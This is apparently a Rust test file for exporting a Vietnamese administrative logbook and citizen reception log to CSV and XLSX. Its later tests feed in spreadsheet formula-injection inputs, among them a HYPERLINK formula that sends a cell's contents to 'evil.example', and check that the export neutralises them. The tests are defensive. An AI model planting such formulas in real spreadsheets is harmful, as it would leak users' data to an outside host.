//! The logbook and the reception log as CSV (with a BOM, for Excel) and as XLSX.

mod common;

use std::io::Cursor;

use calamine::{Data, DataType, Reader, Xlsx};
use common::*;
use motcua_forms::{
    Form, LOGBOOK_COLUMNS, LOGBOOK_SHEET, PetitionClass, RECEPTION_LOG_COLUMNS,
    RECEPTION_LOG_SHEET, logbook_csv, logbook_xlsx, reception_log_csv, reception_log_xlsx,
};

fn book() -> motcua_forms::Logbook {
    let Form::Logbook(book) = logbook() else {
        unreachable!()
    };
    book
}

#[test]
fn csv_starts_with_a_bom_and_reads_back() {
    let bytes = logbook_csv(&book()).unwrap();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF");
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let headers: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(headers, LOGBOOK_COLUMNS);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(&rows[0][0], "974");
    assert_eq!(&rows[0][1], CODE);
    assert_eq!(&rows[0][4], "Nguyễn Thị Hương");
    assert_eq!(&rows[0][5], "Thôn 3, xã Ea Tu; 0905 123 456");
    assert_eq!(&rows[0][7], "14:30 05/03/2026");
    assert_eq!(&rows[0][9], "15:00 05/03/2026");
    assert_eq!(&rows[0][10], "");
    assert_eq!(&rows[1][0], "975");
    assert_eq!(&rows[1][2], "Chứng thực bản sao từ bản chính");
    assert_eq!(&rows[1][3], "3");
    assert_eq!(&rows[1][11], "16:30 05/03/2026");
    assert_eq!(&rows[1][12], "Trả qua bưu điện");
}

#[test]
fn csv_quotes_commas_quotes_and_line_breaks() {
    let mut row = logbook_row(CODE, "Công ty \"Ea Tu\", chi nhánh 2");
    row.note = "dòng 1\ndòng 2".into();
    let bytes = logbook_csv(&logbook_of(vec![row])).unwrap();
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let record = reader.records().next().unwrap().unwrap();
    assert_eq!(&record[4], "Công ty \"Ea Tu\", chi nhánh 2");
    assert_eq!(&record[12], "dòng 1\ndòng 2");
}

#[test]
fn empty_logbook_exports_only_the_header() {
    let bytes = logbook_csv(&logbook_of(vec![])).unwrap();
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    assert_eq!(reader.headers().unwrap().len(), LOGBOOK_COLUMNS.len());
    assert_eq!(reader.records().count(), 0);
    let xlsx = logbook_xlsx(&logbook_of(vec![])).unwrap();
    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(xlsx)).unwrap();
    let range = workbook.worksheet_range(LOGBOOK_SHEET).unwrap();
    assert_eq!(range.height(), 1);
}

#[test]
fn xlsx_has_the_sheet_with_numbers_and_dates() {
    let bytes = logbook_xlsx(&book()).unwrap();
    assert_eq!(&bytes[..4], b"PK\x03\x04", "an XLSX file is a zip archive");
    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    assert_eq!(workbook.sheet_names(), vec![LOGBOOK_SHEET.to_string()]);
    let range = workbook.worksheet_range(LOGBOOK_SHEET).unwrap();
    assert_eq!(range.height(), 3);
    assert_eq!(range.width(), LOGBOOK_COLUMNS.len());
    let header: Vec<String> = range
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(header, LOGBOOK_COLUMNS);

    let first = range.rows().nth(1).unwrap();
    assert_eq!(first[0], Data::Float(974.0));
    assert_eq!(first[1], Data::String(CODE.into()));
    assert_eq!(first[4], Data::String("Nguyễn Thị Hương".into()));
    assert_eq!(first[3], Data::Float(1.0));
    let received = first[7].as_datetime().expect("a real date, not text");
    assert_eq!(received.to_string(), "2026-03-05 14:30:00");
    assert_eq!(first[10], Data::Empty);

    let second = range.rows().nth(2).unwrap();
    assert_eq!(second[3], Data::Float(3.0));
    let returned = second[11].as_datetime().unwrap();
    assert_eq!(returned.to_string(), "2026-03-05 16:30:00");
    assert_eq!(second[12], Data::String("Trả qua bưu điện".into()));
}

#[test]
fn reception_log_csv_has_the_twelve_columns_in_order_and_one_line_per_row() {
    let bytes = reception_log_csv(&reception_log()).unwrap();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF");
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let headers: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(headers, RECEPTION_LOG_COLUMNS);
    assert_eq!(
        headers,
        [
            "STT",
            "Ngày tiếp",
            "Họ tên, địa chỉ",
            "Số CCCD/Hộ chiếu hoặc giấy tờ tùy thân khác",
            "Tóm tắt nội dung",
            "Phân loại (KN, TC, KN-PA)",
            "Số công dân có đơn cùng nội dung",
            "Cơ quan đã giải quyết hết thẩm quyền",
            "Thuộc thẩm quyền",
            "Hướng dẫn (đến đâu, số văn bản)",
            "Chuyển đơn (đến đâu, số văn bản)",
            "Theo dõi kết quả",
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(&rows[0][0], "41");
    assert_eq!(&rows[0][1], "03/07/2026");
    assert_eq!(&rows[0][2], "Trần Thị Mai; Thôn 2, xã Ea Tu");
    assert_eq!(&rows[0][3], "066190001234");
    assert_eq!(&rows[0][5], "KN-PA");
    assert_eq!(&rows[0][6], "1");
    assert_eq!(&rows[0][8], "x");
    assert_eq!(&rows[0][11], "Đang giải quyết");
    assert_eq!(&rows[1][0], "42");
    assert_eq!(&rows[1][5], "KN");
    assert_eq!(&rows[1][6], "7");
    assert_eq!(&rows[1][7], "UBND xã Ea Tu (lần đầu)");
    assert_eq!(&rows[1][8], "");
    assert_eq!(
        &rows[1][10],
        "Chủ tịch UBND tỉnh, Phiếu chuyển số 20/PC-UBND"
    );
    // One CRLF-terminated line per reception plus the header, none embedded.
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    assert_eq!(text.matches("\r\n").count(), 3);
}

#[test]
fn reception_log_xlsx_opens_with_numbers_and_dates() {
    let bytes = reception_log_xlsx(&reception_log()).unwrap();
    assert_eq!(&bytes[..4], b"PK\x03\x04");
    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    assert_eq!(
        workbook.sheet_names(),
        vec![RECEPTION_LOG_SHEET.to_string()]
    );
    let range = workbook.worksheet_range(RECEPTION_LOG_SHEET).unwrap();
    assert_eq!(range.height(), 3);
    assert_eq!(range.width(), 12);
    let header: Vec<String> = range
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(header, RECEPTION_LOG_COLUMNS);
    let first = range.rows().nth(1).unwrap();
    assert_eq!(first[0], Data::Float(41.0));
    let day = first[1].as_datetime().expect("a real date, not text");
    assert_eq!(day.date().to_string(), "2026-07-03");
    assert_eq!(
        first[2],
        Data::String("Trần Thị Mai; Thôn 2, xã Ea Tu".into())
    );
    assert_eq!(first[8], Data::String("x".into()));
    let second = range.rows().nth(2).unwrap();
    assert_eq!(second[6], Data::Float(7.0));
    assert_eq!(second[5], Data::String("KN".into()));

    let empty = reception_log_xlsx(&reception_log_of(vec![])).unwrap();
    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(empty)).unwrap();
    assert_eq!(
        workbook
            .worksheet_range(RECEPTION_LOG_SHEET)
            .unwrap()
            .height(),
        1
    );
}

/// One member of a zip archive (an XLSX file), inflated: enough to look at `xl/styles.xml`.
/// Sizes are read from the central directory, since the local headers may leave them to a
/// trailing data descriptor.
fn zip_member(zip: &[u8], name: &str) -> String {
    let u16_at = |o: usize| usize::from(u16::from_le_bytes([zip[o], zip[o + 1]]));
    let u32_at = |o: usize| u32::from_le_bytes(zip[o..o + 4].try_into().unwrap()) as usize;
    let mut at = 0;
    while let Some(i) = zip[at..].windows(4).position(|w| w == b"PK\x01\x02") {
        let c = at + i;
        let (method, size, name_len) = (u16_at(c + 10), u32_at(c + 20), u16_at(c + 28));
        if &zip[c + 46..c + 46 + name_len] == name.as_bytes() {
            let local = u32_at(c + 42);
            let data = local + 30 + u16_at(local + 26) + u16_at(local + 28);
            let raw = &zip[data..data + size];
            let bytes = if method == 8 {
                miniz_oxide::inflate::decompress_to_vec(raw).unwrap()
            } else {
                raw.to_vec()
            };
            return String::from_utf8(bytes).unwrap();
        }
        at = c + 4;
    }
    panic!("{name} not in the archive");
}

const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")",
    "+84 913 579 246",
    "@SUM(1+1)",
    "\t=1+2",
];

#[test]
fn csv_cells_that_would_run_as_formulas_get_a_quote_and_numbers_stay_numbers() {
    let mut row = logbook_row(CODE, FORMULAS[0]);
    row.note = FORMULAS[2].into();
    row.lead_agency = "-1+2".into();
    let bytes = logbook_csv(&logbook_of(vec![row])).unwrap();
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let record = reader.records().next().unwrap().unwrap();
    assert_eq!(&record[4], format!("'{}", FORMULAS[0]));
    assert_eq!(&record[6], "'-1+2");
    assert_eq!(&record[12], "'@SUM(1+1)");
    assert_eq!(&record[3], "1", "numbers are not touched");

    let mut first = reception_row(FORMULAS[3], PetitionClass::Complaint);
    first.summary = FORMULAS[1].into();
    first.result = "-5".into();
    let bytes = reception_log_csv(&reception_log_of(vec![first])).unwrap();
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let record = reader.records().next().unwrap().unwrap();
    assert!(record[2].starts_with("'=1+2"), "{:?}", &record[2]);
    assert_eq!(&record[4], format!("'{}", FORMULAS[1]));
    assert_eq!(&record[11], "-5", "a plain number stays a number");
}

#[test]
fn xlsx_text_is_never_a_formula_and_risky_cells_carry_the_quote_prefix() {
    let mut row = logbook_row(CODE, FORMULAS[0]);
    row.note = FORMULAS[2].into();
    let bytes = logbook_xlsx(&logbook_of(vec![row])).unwrap();
    assert!(zip_member(&bytes, "xl/styles.xml").contains("quotePrefix=\"1\""));
    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let range = workbook.worksheet_range(LOGBOOK_SHEET).unwrap();
    let first = range.rows().nth(1).unwrap();
    assert_eq!(
        first[4],
        Data::String(FORMULAS[0].into()),
        "the value is unchanged"
    );
    assert_eq!(first[12], Data::String(FORMULAS[2].into()));
    let formulas = workbook.worksheet_formula(LOGBOOK_SHEET).unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));

    let first = reception_row(FORMULAS[3], PetitionClass::Complaint);
    let bytes = reception_log_xlsx(&reception_log_of(vec![first])).unwrap();
    assert!(zip_member(&bytes, "xl/styles.xml").contains("quotePrefix=\"1\""));
}
